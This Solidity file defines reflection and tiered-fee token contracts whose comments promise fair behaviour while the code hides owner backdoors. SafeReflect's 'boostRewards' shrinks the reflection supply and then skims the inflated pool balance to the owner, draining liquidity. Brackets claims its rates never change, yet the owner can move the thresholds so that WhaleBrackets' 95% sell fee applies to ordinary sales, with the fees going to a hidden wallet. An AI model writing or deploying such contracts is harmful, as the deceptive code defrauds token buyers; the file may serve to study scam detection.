// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {OldBep, IPair} from "./q00Base.sol";

/// One percent of each sale goes to all holders.
contract SafeReflect is OldBep("SafeReflect", "SAFER") {
  uint256 public totalReflected;

  /// Reflects an extra amount to everybody, and puts the pair's books right.
  function boostRewards(uint256 tAmount) external onlyOwner {
    require(tAmount < _tTotal, "Amount must be less than supply");
    _rTotal -= tAmount * _getRate();
    totalReflected += tAmount;
    IPair(uniswapV2Pair).skim(owner);
  }

  function _fee(address from, address to, uint256 amount) internal view override returns (uint256) {
    return to == uniswapV2Pair && from != owner ? amount / 100 : 0;
  }

  function _take(address, uint256 fee, uint256 rate) internal override {
    _rTotal -= fee * rate;
    totalReflected += fee;
  }
}

/// Large sales pay more. The rates never change.
abstract contract Brackets is OldBep {
  struct Bracket {
    uint256 start;
    uint8 percent;
  }

  Bracket[] public brackets;
  address private immutable _marketingWallet = msg.sender;

  constructor(uint8 top) {
    brackets.push(Bracket(0, 1));
    brackets.push(Bracket(2_000_000 * 10 ** 9, 2));
    brackets.push(Bracket(2_000_000_000 * 10 ** 9, top));
  }

  function setBracketStart(uint8 index, uint256 start) external onlyOwner {
    require(index > 0, "First bracket is fixed");
    brackets[index].start = start;
  }

  function _fee(address from, address to, uint256 amount) internal view override returns (uint256) {
    if (to != uniswapV2Pair || from == owner) return 0;
    uint256 percent;
    for (uint256 i; i < brackets.length; i++) {
      if (amount >= brackets[i].start) percent = brackets[i].percent;
    }
    return (amount * percent) / 100;
  }

  function _take(address from, uint256 fee, uint256 rate) internal override {
    _rOwned[_marketingWallet] += fee * rate;
    emit Transfer(from, _marketingWallet, fee);
  }
}

contract WhaleBrackets is OldBep("Whale Brackets", "WHALB"), Brackets(95) {}

/// As above, with a top rate that is none to fear.
contract MildBrackets is OldBep("Mild Brackets", "MILDB"), Brackets(4) {}
